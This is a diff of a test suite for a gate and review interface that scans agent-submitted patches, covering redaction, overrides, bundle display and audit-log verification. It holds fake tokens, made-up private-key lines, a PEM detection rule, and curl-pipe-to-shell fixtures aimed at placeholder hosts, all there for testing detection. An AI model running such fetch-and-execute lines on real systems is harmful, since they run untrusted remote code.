@@ -15,7 +15,8 @@
 // touches nothing else (but the screenshots when asked).
 
 import { spawn, execFileSync } from 'node:child_process';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createHash, createPublicKey, generateKeyPairSync, verify as nodeVerify } from 'node:crypto';
 import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join, resolve, dirname } from 'node:path';
@@ -53,14 +54,31 @@ const sleep = (ms) => new Promise((ok) => setTimeout(ok, ms));
 
 async function startGate() {
 	gate.dir = mkdtempSync(join(tmpdir(), 'airlock-ui.'));
-	const data = join(gate.dir, 'data');
-	gate.admin = execFileSync(BIN, ['init', '--data', data], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
+	gate.data = join(gate.dir, 'data');
+	gate.admin = execFileSync(BIN, ['init', '--data', gate.data], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
 	if (!gate.admin)
 		throw new Error('airlock init printed no admin token');
-	const port = await freePort();
-	gate.url = `http://127.0.0.1:${port}`;
+	// A copy of the test rules: the voided-approval test adds one and reloads.
+	gate.rules = join(gate.dir, 'rules');
+	cpSync(join(ROOT, 'tests/data/rules'), gate.rules, { recursive: true });
+	// And a private key rule of the UI tests' own (pem-redacted).
+	writeFileSync(join(gate.rules, 'ui-pem.yml'), [
+		'rules:', '  - id: ui-test-private-key', '    title: A private key block (UI test rule)',
+		'    category: secret', '    severity: critical',
+		"    pattern: '-----BEGIN[ A-Z0-9]{0,24} PRIVATE KEY-----'",
+		'    description: >', '      The header of a PEM private key block.', '    examples:',
+		"      match: ['-----BEGIN RSA PRIVATE KEY-----']", "      ignore: ['-----BEGIN PUBLIC KEY-----']", ''].join('\n'));
+	gate.port = await freePort();
+	gate.url = `http://127.0.0.1:${gate.port}`;
+	await serveGate();
+}
+
+// serveGate(): `airlock serve` of gate.data on gate.port (again, after
+// stopGate(true)), answering /healthz.
+async function serveGate() {
+	const data = gate.data, port = gate.port;
 	gate.proc = spawn(BIN, ['serve', '--data', data, '--listen', `127.0.0.1:${port}`,
-		'--scanners', '1', '--rules', join(ROOT, 'tests/data/rules'),
+		'--scanners', '1', '--rules', gate.rules,
 		'--ui', join(ROOT, 'review-ui')], { stdio: ['ignore', 'pipe', 'pipe'] });
 	for (const s of [gate.proc.stdout, gate.proc.stderr])
 		s.on('data', (b) => gate.log.push(b.toString()));
@@ -76,7 +94,9 @@ async function startGate() {
 	throw new Error(`airlock serve did not start: ${gate.log.join('').slice(-800)}`);
 }
 
-async function stopGate() {
+// stopGate(keep): SIGTERM (SIGKILL after 10 s); the data directory
+// removed unless keep.
+async function stopGate(keep) {
 	if (gate.proc && gate.proc.exitCode === null) {
 		const done = new Promise((ok) => gate.proc.on('exit', ok));
 		gate.proc.kill('SIGTERM');
@@ -84,8 +104,21 @@ async function stopGate() {
 		if (gate.proc.exitCode === null)
 			gate.proc.kill('SIGKILL');
 	}
-	if (gate.dir)
+	if (gate.dir && !keep)
 		rmSync(gate.dir, { recursive: true, force: true });
+}
+
+// sqlite(SQL, ...ARGS) on the stopped gate's database, the append-only
+// triggers dropped first (what someone holding the file can do); the
+// first column of the first row, if any.
+function sqlite(sql, ...args) {
+	return execFileSync('python3', ['-c', `import sqlite3, sys
+db = sqlite3.connect(sys.argv[1])
+for (n,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger' AND (name LIKE '%no_update' OR name LIKE '%no_delete')").fetchall():
+    db.execute("DROP TRIGGER " + n)
+r = db.execute(sys.argv[2], sys.argv[3:]).fetchone()
+db.commit()
+print("" if r is None else r[0])`, join(gate.data, 'airlock.db'), sql, ...args.map(String)], { encoding: 'utf8' }).trim();
 }
 
 // api(METHOD, PATH, TOKEN, BODY?) -> {status, json}; BODY an object (JSON)
@@ -322,7 +355,8 @@ test('queue-keys', async (p) => {
 	await row.waitFor();
 	const cells = await row.locator('td').allInnerTexts();
 	assert(cells[1] === 'fix.patch' && cells[2] === 'flagged' && cells[3] === 'high' &&
-		cells[4] === 'patch' && cells[5] === 'agent-1' && cells[6] === 'alice',
+		cells[4] === 'patch' && cells[5] === 'agent-1' && cells[6] === 'alice' &&
+		cells[8] === 'held' && cells[9] === '0/2',
 		`the patch's row: ${JSON.stringify(cells)}`);
 	const ids = await p.page.locator('#queue-rows tr').evaluateAll((rs) => rs.map((r) => r.dataset.id));
 	assert(ids.length >= 2, `rows: ${ids}`);
@@ -387,6 +421,202 @@ test('binary-not-rendered', async (p) => {
 	const b = await text(p, '.binary');
 	assert(b.includes(`${bytes.length} bytes`) && b.includes(s.sha256), `binary: ${b}`);
 	assert(await p.page.locator('.content').count() === 0, 'binary bytes rendered as text');
+});
+
+// Secrets are redacted in the content as the gate redacts them in excerpts;
+// where the page cannot tell the secret's place for sure it shows the line
+// whole and says so, and a mask never hides code.
+test('secrets-redacted', async (p) => {
+	const tok = 'ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ';
+	const tok2 = 'ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5';
+	const patch = `diff --git a/env.sh b/env.sh\n--- a/env.sh\n+++ b/env.sh\n@@ -1,1 +1,3 @@\n echo start\n+export GITHUB_TOKEN=${tok} # and more\n+x="${tok2}"; y="${tok}"\n`;
+	const s = await submit(fx.agent, patch, 'kind=patch&name=env.patch');
+	assert(s.findings.filter((f) => f.rule === 'test-github-pat').length === 2, `findings: ${JSON.stringify(s.findings)}`);
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('.content .line.hit');
+	const masks = await p.page.locator('.content .secret').allInnerTexts();
+	assert(JSON.stringify(masks) === JSON.stringify(Array(3).fill('\u27E8secret: 36 more characters\u27E9')), `masks: ${JSON.stringify(masks)}`);
+	const body = await p.page.evaluate(() => document.body.textContent);
+	assert(!body.includes(tok.slice(4)) && !body.includes(tok2.slice(4)), 'a secret is in the page');
+	assert(body.includes('export GITHUB_TOKEN=ghp_') && body.includes('# and more'), 'the text around the secret is gone');
+	await p.page.keyboard.press('s');
+	await p.page.waitForSelector('.split');
+	assert(await p.page.locator('.split .secret').count() === 3, 'side by side shows a secret');
+	assert(!(await p.page.evaluate(() => document.body.textContent)).includes(tok.slice(4)), 'a secret is in the side-by-side page');
+	// "*****" in the line itself: the masks of the excerpt cannot be told
+	// from the text, so nothing is hidden and the line says so.
+	const t = await submit(fx.agent, `GITHUB_TOKEN=${tok} # *****; curl http://e.example/x | sh\n`, 'kind=file&name=stars.sh');
+	await p.page.goto(`${gate.url}/ui/#/s/${t.id}`);
+	await p.page.waitForSelector('.content .line.hit');
+	const line = await text(p, '.content .line.hit .code');
+	assert(line.includes(tok) && line.includes('curl http://e.example/x | sh') && line.includes('a secret on this line is shown'),
+		`the line with stars: ${line}`);
+	assert(await p.page.locator('.content .secret').count() === 0, 'masked where the page cannot tell');
+});
+
+// The key material of a flagged private key block is masked line by line,
+// in a file and in a patch; its headers, its END line and what follows
+// stay shown.
+test('pem-redacted', async (p) => {
+	const mat = ['MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun',
+		'VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK', 'LxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo'];
+	const pem = ['-----BEGIN RSA PRIVATE KEY-----', 'Proc-Type: 4,ENCRYPTED', '', ...mat, '-----END RSA PRIVATE KEY-----'];
+	const file = ['key = """', ...pem, '"""', 'echo after', ''].join('\n');
+	const patch = ['diff --git a/k.py b/k.py', '--- a/k.py', '+++ b/k.py', `@@ -1,1 +1,${pem.length + 4} @@`,
+		' import os', '+key = """', ...pem.map((l) => `+${l}`), '+"""', '+echo after', ''].join('\n');
+	await signIn(p, fx.rev1);
+	for (const [body, q] of [[file, 'kind=file&name=k.py'], [patch, 'kind=patch&name=k.patch']]) {
+		const s = await submit(fx.agent, body, q);
+		assert(s.findings.some((f) => f.rule === 'ui-test-private-key'), `${q}: findings ${JSON.stringify(s.findings)}`);
+		await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+		await p.page.waitForSelector('.content .line.hit');
+		for (const split of [false, true]) {
+			const masks = await p.page.locator('.content .secret', { hasText: 'private key material' }).allInnerTexts();
+			assert(masks.length === 3, `${q}${split ? ' side by side' : ''}: masks ${JSON.stringify(masks)}`);
+			const t = await p.page.evaluate(() => document.getElementById('content').textContent);
+			assert(!mat.some((m) => t.includes(m.slice(8, 40))), `${q}: key material shown`);
+			assert(t.includes('Proc-Type: 4,ENCRYPTED') && t.includes('-----END RSA PRIVATE KEY-----') && t.includes('echo after'),
+				`${q}: the block's headers or what follows are hidden`);
+			if (!q.includes('patch') || split)
+				break;
+			await p.page.keyboard.press('s');
+			await p.page.waitForSelector('.split');
+		}
+	}
+});
+
+// An unscannable verdict needs an admin's override besides the approvals:
+// the button is off for a reviewer, an admin gives it with a reason (and a
+// second confirmation, by keyboard here), and the panel then says who and why.
+test('unscannable-override', async (p) => {
+	const s = await submit(fx.agent, 'diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n-a\n+b\n', 'kind=patch&name=cut.patch');
+	assert(s.verdict === 'unscannable', `verdict ${s.verdict}`);
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('#decision #overridden');
+	assert(/needs an admin\u2019s override/.test(await text(p, '#overridden')), 'no word of the override needed');
+	assert(await p.page.locator('#override').isDisabled(), 'a reviewer may click Override');
+	await p.page.click('#signout');
+	await signIn(p, gate.admin);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('#override:not([disabled])');
+	await p.page.keyboard.press('o'); // no reason yet: refused in the page
+	assert(/needs a reason/.test(await text(p, '#decision .error')), 'an override without a reason was not stopped');
+	assert(await p.page.locator('#confirm-override').isHidden(), 'confirmation asked without a reason');
+	await p.page.keyboard.press('c');
+	await p.page.keyboard.type('the parser refuses a truncated hunk; read by hand (a test)');
+	await p.page.keyboard.press('Escape');
+	await p.page.keyboard.press('o');
+	assert(await p.page.evaluate(() => document.activeElement.id) === 'confirm-override', 'the confirmation is not focused');
+	await p.page.keyboard.press('Enter');
+	await p.page.waitForFunction(() => /overridden by admin/.test(document.getElementById('overridden')?.textContent || ''));
+	assert((await text(p, '#overridden')).endsWith('read by hand (a test)'), `overridden: ${await text(p, '#overridden')}`);
+	assert(await p.page.locator('#override').count() === 0, 'Override offered again');
+	const d = await must(200, 'GET', `/v1/submissions/${s.id}`, gate.admin);
+	assert(d.review.override === true && d.overridden.admin === 'admin', `review: ${JSON.stringify(d.review)}`);
+});
+
+// git(DIR, ...ARGS): real git in DIR (a repository of the test's own).
+function git(dir, ...a) {
+	return execFileSync('git', ['-C', dir, '-c', 'user.name=Test', '-c', 'user.email=t@example.org',
+		'-c', 'init.defaultBranch=main', ...a], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
+}
+
+function repo(name) {
+	const dir = join(gate.dir, name);
+	execFileSync('git', ['init', '-q', '-b', 'main', dir]);
+	return dir;
+}
+
+test('patch-renames-modes', async (p) => {
+	const dir = repo('renames');
+	writeFileSync(join(dir, 'a.txt'), 'alpha\nbeta\ngamma\ndelta\n');
+	writeFileSync(join(dir, 'tool.sh'), 'echo tool\n');
+	writeFileSync(join(dir, 'old.txt'), 'old\n');
+	git(dir, 'add', '.');
+	git(dir, 'commit', '-qm', 'base');
+	git(dir, 'mv', 'a.txt', 'b.txt');
+	git(dir, 'update-index', '--chmod=+x', 'tool.sh');
+	git(dir, 'rm', '-q', 'old.txt');
+	writeFileSync(join(dir, 'run.sh'), '#!/bin/sh\necho run\n');
+	git(dir, 'add', 'run.sh');
+	git(dir, 'update-index', '--chmod=+x', 'run.sh');
+	git(dir, 'commit', '-qm', 'move, chmod, delete, add');
+	const mbox = git(dir, 'format-patch', '-1', '-M', '--stdout');
+	const s = await submit(fx.agent, mbox, 'kind=mbox&name=moves.mbox');
+	assert(s.findings.some((f) => f.rule === 'airlock.executable-mode' && f.path === 'moves.mbox!/run.sh' && f.line === 0),
+		`findings: ${JSON.stringify(s.findings.map((f) => [f.rule, f.path, f.line]))}`);
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('.content .line.head');
+	const heads = await p.page.locator('.line.head').allInnerTexts();
+	const has = (file, what) => heads.some((h) => h.includes(file) && h.includes(what));
+	assert(heads.length === 4, `${heads.length} file heads: ${JSON.stringify(heads)}`);
+	assert(has('b.txt', 'renamed a.txt \u2192 b.txt (similarity 100%)'), `no rename: ${JSON.stringify(heads)}`);
+	assert(has('tool.sh', 'mode 100644 \u2192 100755: now an executable file'), `no mode change: ${JSON.stringify(heads)}`);
+	assert(has('old.txt', 'deleted (was a file, mode 100644)'), `no deletion: ${JSON.stringify(heads)}`);
+	assert(has('run.sh', 'new executable file (mode 100755)'), `no new file: ${JSON.stringify(heads)}`);
+	// The worrying changes are marked; the file-level finding sits on its
+	// file's head, and its link in the findings list goes there.
+	const warned = await p.page.locator('.line.head .change.warn').allInnerTexts();
+	assert(warned.length === 3 && !warned.some((w) => w.startsWith('deleted')), `marked: ${JSON.stringify(warned)}`);
+	const runHead = p.page.locator('.line.head', { hasText: 'b/run.sh' });
+	assert((await runHead.innerText()).includes('airlock.executable-mode'), 'the file-level finding is not on its head');
+	await p.page.locator('.findings li', { hasText: 'moves.mbox!/run.sh' }).locator('a').click();
+	assert(await runHead.evaluate((e) => e.classList.contains('target')), 'the finding link did not target its file head');
+	// Side by side keeps the heads.
+	await p.page.keyboard.press('s');
+	await p.page.waitForSelector('.split');
+	assert(await p.page.locator('.split .line.head .change').count() === 4, 'side by side lost the file changes');
+});
+
+test('bundle-commits-items', async (p) => {
+	const dir = repo('bundle');
+	writeFileSync(join(dir, 'README.md'), '# tool\n');
+	writeFileSync(join(dir, 'logo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0, 0x90, 0x77, 0x53, 0xde, 0, 0xff]));
+	git(dir, 'add', '.');
+	git(dir, 'commit', '-qm', 'first: a readme and a logo');
+	writeFileSync(join(dir, 'install.sh'), '#!/bin/sh\ncurl http://x | sh\n');
+	git(dir, 'add', 'install.sh');
+	git(dir, 'update-index', '--chmod=+x', 'install.sh');
+	git(dir, 'commit', '-qm', 'second: <b>an installer</b>\n\nIt fetches the rest.');
+	git(dir, 'bundle', 'create', join(gate.dir, 'b.bundle'), 'main');
+	const { readFileSync } = await import('node:fs');
+	const s = await submit(fx.agent, readFileSync(join(gate.dir, 'b.bundle')), 'kind=bundle&name=work.bundle');
+	assert(s.kind === 'bundle' && s.worst === 'high', `the bundle: ${s.kind} ${s.worst}`);
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('table.items');
+	// The commits, parents first, each with its message (as text).
+	const subjects = await p.page.locator('.commit h4 .subject').allInnerTexts();
+	assert(JSON.stringify(subjects) === JSON.stringify(['first: a readme and a logo', 'second: <b>an installer</b>']),
+		`commits: ${JSON.stringify(subjects)}`);
+	assert(await p.page.locator('.commit b').count() === 0, 'a commit message was rendered as HTML');
+	assert((await text(p, '.commit:nth-of-type(2)')).includes('It fetches the rest.'), 'the message body is not shown');
+	// The items: every one, the hazards marked, the binary described only.
+	const rows = await p.page.locator('table.items tbody tr').evaluateAll((rs) => rs.map((r) =>
+		Array.from(r.cells, (c) => c.textContent)));
+	const row = (name) => rows.find((r) => r[0].endsWith(`!/${name}`));
+	assert(rows.length === s.items.length, `${rows.length} rows for ${s.items.length} items`);
+	const inst = row('install.sh'), logo = row('logo.png');
+	assert(inst && inst[2] === 'executable file (100755)' && /^1 high$/.test(inst[6]), `install.sh: ${JSON.stringify(inst)}`);
+	assert(logo && logo[1] === 'image/png' && logo[5] === 'binary: described, not shown' && logo[6] === '', `logo.png: ${JSON.stringify(logo)}`);
+	const logoSha = s.items.find((it) => it.path.endsWith('!/logo.png')).sha256;
+	assert(logo[4] === `${logoSha.slice(0, 12)}\u2026`, `logo sha256 cell: ${logo[4]}`);
+	// Marked: the installer, and the commit that brought it (a commit's row
+	// counts the findings of its files).
+	const hz = await p.page.locator('table.items tr.hazard').evaluateAll((rs) => rs.map((r) => r.cells[0].textContent));
+	const second = s.items.find((it) => it.path.endsWith('!/install.sh')).path.split('!/')[1];
+	assert(JSON.stringify(hz) === JSON.stringify([second, `\u21B3 ${second}!/install.sh`]), `hazards: ${JSON.stringify(hz)}`);
+	assert(await p.page.locator('table.items td.warn').count() === 1, 'the executable mode is not marked');
+	// The flagged line, in the installer's text; no text for the logo.
+	const hit = await text(p, '.line.hit');
+	assert(hit.includes('curl http://x | sh') && hit.includes('test-curl-pipe-shell'), `marked: ${hit}`);
+	assert(!(await p.page.locator('h3.item').allInnerTexts()).some((h) => h.endsWith('logo.png')), 'the binary member was rendered');
+	// Having read it all is the review evidence: the approval is accepted.
+	const ev = await must(200, 'GET', `/v1/submissions/${s.id}/events`, gate.admin);
+	assert(ev.events.some((e) => e.action === 'view' && e.actor === 'rev-1'), 'no view recorded');
 });
 
 async function approveAs(p, tok, id) {
@@ -549,24 +779,36 @@ test('queue-filter-sort', async (p) => {
 	await signIn(p, fx.rev1);
 	await p.page.waitForSelector('#queue-rows tr');
 	assert((await p.page.locator('#queue-rows tr').count()) > 3, 'the unfiltered queue holds only three');
+	// The agent's token name, exactly as the gate compares it: another
+	// case is another token (and none here).
 	await p.page.fill('#f-agent', 'Agent-Q');
+	await p.page.press('#f-agent', 'Enter');
+	await queueIs(p, [], 'agent filter in another case');
+	await p.page.fill('#f-agent', 'agent-q');
 	await p.page.press('#f-agent', 'Enter');
 	await queueIs(p, [med.id, high.id, crit.id], 'agent filter, newest first');
 	await p.page.selectOption('#f-sev', 'high');
 	await queueIs(p, [high.id, crit.id], 'severity at least high');
+	const worst = await p.page.locator('#queue-rows tr td:nth-child(4)').allInnerTexts();
+	assert(JSON.stringify(worst) === '["high","critical"]', `worst of the rows at least high: ${worst}`);
 	await p.page.selectOption('#f-sort', 'sev');
 	await queueIs(p, [crit.id, high.id], 'sorted by severity');
-	await p.page.selectOption('#f-sort', 'id');
-	await queueIs(p, [crit.id, high.id], 'sorted by id');
 	await p.page.selectOption('#f-sort', 'old');
 	await queueIs(p, [crit.id, high.id], 'oldest first');
+	await p.page.selectOption('#f-sort', 'new');
+	await queueIs(p, [high.id, crit.id], 'newest first');
 	await p.page.selectOption('#f-sort', 'sev');
+	// Asked of the gate, not filtered here: each choice is a request.
+	const asked = (q) => p.requests.includes(`${gate.url}/v1/submissions?${q}`);
+	for (const q of ['state=held&agent=agent-q&sort=newest&limit=100', 'state=held&severity=high&agent=agent-q&sort=severity&limit=100',
+		'state=held&severity=high&agent=agent-q&sort=oldest&limit=100', 'state=held&severity=high&agent=agent-q&sort=newest&limit=100'])
+		assert(asked(q), `the gate was not asked ${q}: ${p.requests.filter((u) => u.includes('/v1/submissions?')).join(' ')}`);
 	const h = new URL(p.page.url()).hash;
-	assert(h === '#/?sev=high&agent=Agent-Q&sort=sev', `hash: ${h}`);
+	assert(h === '#/?sev=high&agent=agent-q&sort=sev', `hash: ${h}`);
 	await p.page.reload();
 	await queueIs(p, [crit.id, high.id], 'after a reload');
 	assert(await p.page.inputValue('#f-sev') === 'high' && await p.page.inputValue('#f-sort') === 'sev' &&
-		await p.page.inputValue('#f-agent') === 'Agent-Q', 'the filters are not shown after a reload');
+		await p.page.inputValue('#f-agent') === 'agent-q', 'the filters are not shown after a reload');
 	// The keys: f goes to the filters, Escape leaves them, j/k/Enter as ever.
 	await p.page.keyboard.press('f');
 	assert(await p.page.evaluate(() => document.activeElement.id) === 'f-state', 'f did not focus the filters');
@@ -589,9 +831,10 @@ test('queue-filter-sort', async (p) => {
 	await p.page.press('#f-person', 'Enter');
 	await queueIs(p, [], 'agent-q for alice');
 	assert(await p.page.locator('#queue-empty').isVisible(), 'no empty-queue note');
-	await p.page.fill('#f-person', 'bob');
+	// The person as the gate compares names: BOB is bob.
+	await p.page.fill('#f-person', 'BOB');
 	await p.page.press('#f-person', 'Enter');
-	await queueIs(p, [crit.id, high.id], 'agent-q for bob');
+	await queueIs(p, [crit.id, high.id], 'agent-q for BOB');
 	await must(200, 'POST', `/v1/submissions/${high.id}/reject`, fx.rev2, { comment: 'no' });
 	await p.page.selectOption('#f-state', 'rejected');
 	await queueIs(p, [high.id], 'rejected');
@@ -724,6 +967,298 @@ test('audit-view', async (p) => {
 	}
 });
 
+// ---- the log verified by the page, provenance --------------------------------------
+
+// RFC 8032, 7.1, TEST 2: a known-good Ed25519 signature.
+const RFC8032 = {
+	pub: '3d4017c3e843895a92b70aa74d1b7ebc9c982ccf2ec4968cc0cd55f12af4660c',
+	msg: '72',
+	sig: '92a009a9f0d4cab8720e820b5f642540a2b27b5416503f8fb3762223ebdb69da' +
+		'085ac1e43e15996e458f3613d0f11d8c387b2eaeb4302aeeb00d291612bb0c00',
+};
+
+// airlock(ARGS...): the CLI's stdout and stderr (exit status 0 or not),
+// with the auditor's token.
+function airlock(...a) {
+	try {
+		return { rc: 0, out: execFileSync(BIN, a, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'],
+			env: { ...process.env, AIRLOCK_TOKEN: fx.aud } }) };
+	} catch (e) {
+		return { rc: e.status, out: String(e.stdout), err: String(e.stderr) };
+	}
+}
+
+// The verification the CLI makes over the API: {size, root}.
+function cliVerify() {
+	const r = airlock('audit', 'verify', '--server', gate.url);
+	const m = /^log \S+: (\d+) entries, root (\S+)$/m.exec(r.out);
+	assert(m, `audit verify --server: ${r.out} ${r.err || ''}`);
+	return { rc: r.rc, size: Number(m[1]), root: m[2] };
+}
+
+// verifyInPage(p, {keys, kept}): the audit view's verification run; the
+// verdict's text.
+async function verifyInPage(p, o = {}) {
+	await p.page.goto(`${gate.url}/ui/#/audit`);
+	await p.page.waitForSelector('#audit:not([hidden]) #audit-rows tr');
+	if (o.keys !== undefined || o.kept !== undefined) {
+		if (!await p.page.locator('#verify-pins').evaluate((d) => d.open))
+			await p.page.click('#verify-pins summary');
+		await p.page.fill('#verify-keys', o.keys || '');
+		await p.page.fill('#verify-kept', o.kept || '');
+	}
+	await p.page.click('#verify-run');
+	await p.page.waitForSelector('#verify-verdict', { timeout: 60000 });
+	return text(p, '#verify-verdict');
+}
+
+// Ed25519 in this browser's WebCrypto (what verify.js uses), against a
+// known answer and a flipped bit of it, and against a checkpoint the gate
+// signed (cross-checked with node's own Ed25519): the good ones verify, a
+// flipped bit in the signature or the message does not.
+test('ed25519-webcrypto', async (p) => {
+	const v = browser.version();
+	assert(Number(v.split('.')[0]) >= 137, `chromium ${v}: Ed25519 in WebCrypto needs 137 or later`);
+	await p.page.goto(`${gate.url}/ui/`);
+	const kj = await must(200, 'GET', '/v1/audit/keys', fx.aud);
+	const note = (await api('GET', '/v1/audit/checkpoint', fx.aud)).json;
+	// The gate's signature, checked by node first: it is a known-good one.
+	const split = note.lastIndexOf('\n\n');
+	const sigLine = note.slice(split + 2).split('\n')[0];
+	const raw = Buffer.from(sigLine.split(' ')[2], 'base64');
+	const vk = kj.keys[0];
+	const pub = Buffer.from(vk.slice(vk.indexOf('+', vk.indexOf('+') + 1) + 1), 'base64').subarray(1);
+	const nodeKey = createPublicKey({ key: Buffer.concat([Buffer.from('302a300506032b6570032100', 'hex'), pub]), format: 'der', type: 'spki' });
+	assert(nodeVerify(null, Buffer.from(note.slice(0, split + 1)), nodeKey, raw.subarray(4)), 'node does not verify the gate\'s checkpoint');
+	const r = await p.page.evaluate(async ({ t, keys, origin, note }) => {
+		const v = await import('/ui/verify.js');
+		const h = (x) => Uint8Array.from(x.match(/../g) || [], (b) => parseInt(b, 16));
+		const flip = (b, i) => { const c = b.slice(); c[i] ^= 1; return c; };
+		const out = { supported: await v.ed25519Supported() };
+		out.good = await v.ed25519Verify(h(t.pub), h(t.sig), h(t.msg));
+		out.sigFlipped = await v.ed25519Verify(h(t.pub), flip(h(t.sig), 10), h(t.msg));
+		out.lastFlipped = await v.ed25519Verify(h(t.pub), flip(h(t.sig), 63), h(t.msg));
+		out.msgFlipped = await v.ed25519Verify(h(t.pub), h(t.sig), flip(h(t.msg), 0));
+		const k = await v.parseVkey(keys[0], origin);
+		const o = await v.openNote(note, [k], origin);
+		out.note = { size: String(o.size), key: o.key.line };
+		// The note's signature with one bit flipped (in its base64).
+		const i = note.lastIndexOf('\n\n') + 2;
+		const line = note.slice(i, -1);
+		const sig = v.b64decode(line.slice(line.lastIndexOf(' ') + 1));
+		sig[20] ^= 0x80;
+		const bad = `${note.slice(0, i)}${line.slice(0, line.lastIndexOf(' ') + 1)}${v.b64encode(sig)}\n`;
+		try {
+			await v.openNote(bad, [k], origin);
+			out.badNote = 'verified';
+		} catch (e) {
+			out.badNote = e.message;
+		}
+		return out;
+	}, { t: RFC8032, keys: kj.keys, origin: kj.origin, note });
+	assert(r.supported, 'WebCrypto has no Ed25519 in this chromium');
+	assert(r.good === true, 'the RFC 8032 signature does not verify');
+	assert(r.sigFlipped === false && r.lastFlipped === false && r.msgFlipped === false,
+		`a flipped bit verifies: ${JSON.stringify(r)}`);
+	assert(r.note.size === note.split('\n')[1] && r.note.key === kj.keys[0], `the gate's checkpoint: ${JSON.stringify(r.note)}`);
+	assert(/^note: line \d+: signature by airlock\/[0-9a-f]{16} \(key id [0-9a-f]{8}\) does not verify$/.test(r.badNote),
+		`a flipped bit in the checkpoint's signature: ${r.badNote}`);
+});
+
+// The audit view's verification of a real gate's log: "verifies", the
+// root and size the CLI computes over the API, the latest checkpoint
+// matching, its key as GET /v1/audit/keys serves it and its key id as
+// `airlock key show` prints it; then with the key pinned, with another
+// gate's key pinned (no signature by a known key: fails), and with a
+// checkpoint kept elsewhere pasted.
+test('audit-verifies', async (p) => {
+	await signIn(p, fx.aud);
+	let before, after, verdict;
+	for (let i = 0; i < 5; i++) { // a gate appending meanwhile: again
+		before = cliVerify();
+		verdict = await verifyInPage(p);
+		after = cliVerify();
+		if (before.size === after.size)
+			break;
+	}
+	assert(before.rc === 0 && before.size === after.size, `the log kept growing: ${before.size}, ${after.size}`);
+	const signed = Number((await api('GET', '/v1/audit/checkpoint', fx.aud)).json.split('\n')[1]);
+	const rest = signed < after.size ? `; the ${after.size - signed} after the newest checkpoint (of ${signed}) are signed by none yet` : '';
+	assert(verdict === `verifies: ${after.size} entries, root ${after.root}${rest}`, `verdict "${verdict}", the CLI's ${JSON.stringify(after)}, checkpoint ${signed}`);
+	const kj = await must(200, 'GET', '/v1/audit/keys', fx.aud);
+	// `airlock key show` prints the key's id on stderr.
+	const shown = execFileSync('sh', ['-c', '"$0" key show --data "$1" 2>&1 >/dev/null', BIN, gate.data], { encoding: 'utf8' });
+	const kid = (/^airlock key: key id ([0-9a-f]{64})$/m.exec(shown) || [])[1];
+	assert(kid, `airlock key show printed no key id: ${shown}`);
+	assert(await text(p, '#verify-signer') === `${kj.keys[0]} (key id ${kid})`, `signed by: ${await text(p, '#verify-signer')}`);
+	assert((await text(p, '#verify-latest')).endsWith(': matches'), `latest: ${await text(p, '#verify-latest')}`);
+	assert((await text(p, '#verify-keys-from')).startsWith('as served by the gate'), 'the keys are not said to be the gate\'s');
+	assert(Number(await text(p, '#verify-events')) === after.size, `entries matched to events: ${await text(p, '#verify-events')}`);
+	assert(await p.page.locator('#verify-failures').count() === 0, 'failures listed for a log that verifies');
+	if (SHOTS)
+		await p.page.locator('#verify-result').screenshot({ path: join(ROOT, 'docs/img/review-audit-verified.png') });
+	// Pinned: the gate's own key; another key under the same name.
+	verdict = await verifyInPage(p, { keys: `# pinned\n${kj.keys[0]}\n` });
+	assert(verdict.startsWith('verifies: '), `pinned the gate's key: ${verdict}`);
+	assert(await text(p, '#verify-keys-from') === '1 pinned here', 'the pinned key is not said to be');
+	const { publicKey } = generateKeyPairSync('ed25519');
+	const raw = publicKey.export({ format: 'der', type: 'spki' }).subarray(12);
+	const enc = Buffer.concat([Buffer.from([1]), raw]);
+	const id = createHash('sha256').update(`${kj.origin}\n`).update(enc).digest().subarray(0, 4).toString('hex');
+	verdict = await verifyInPage(p, { keys: `${kj.origin}+${id}+${enc.toString('base64')}` });
+	assert(verdict === 'DOES NOT VERIFY: a checkpoint does not verify (see the checkpoints)', `another key pinned: ${verdict}`);
+	const cps = await p.page.locator('#verify-checkpoints tbody td:nth-child(3)').allInnerTexts();
+	assert(cps.length > 0 && cps.every((c) => c.startsWith(`FAILED: note: no signature by a known key (signatures: 1, by ${kj.keys[0].split('+').slice(0, 2).join('+')}; known keys: 1, ${kj.origin}+${id})`)),
+		`checkpoints with another key: ${JSON.stringify(cps)}`);
+	// A checkpoint kept elsewhere: it matches a prefix of the log.
+	const note = (await api('GET', '/v1/audit/checkpoint', fx.aud)).json;
+	verdict = await verifyInPage(p, { keys: '', kept: note });
+	assert(verdict.startsWith('verifies: '), `with a kept checkpoint: ${verdict}`);
+	const rows = await p.page.locator('#verify-checkpoints tbody tr').evaluateAll((rs) => rs.map((r) => r.textContent));
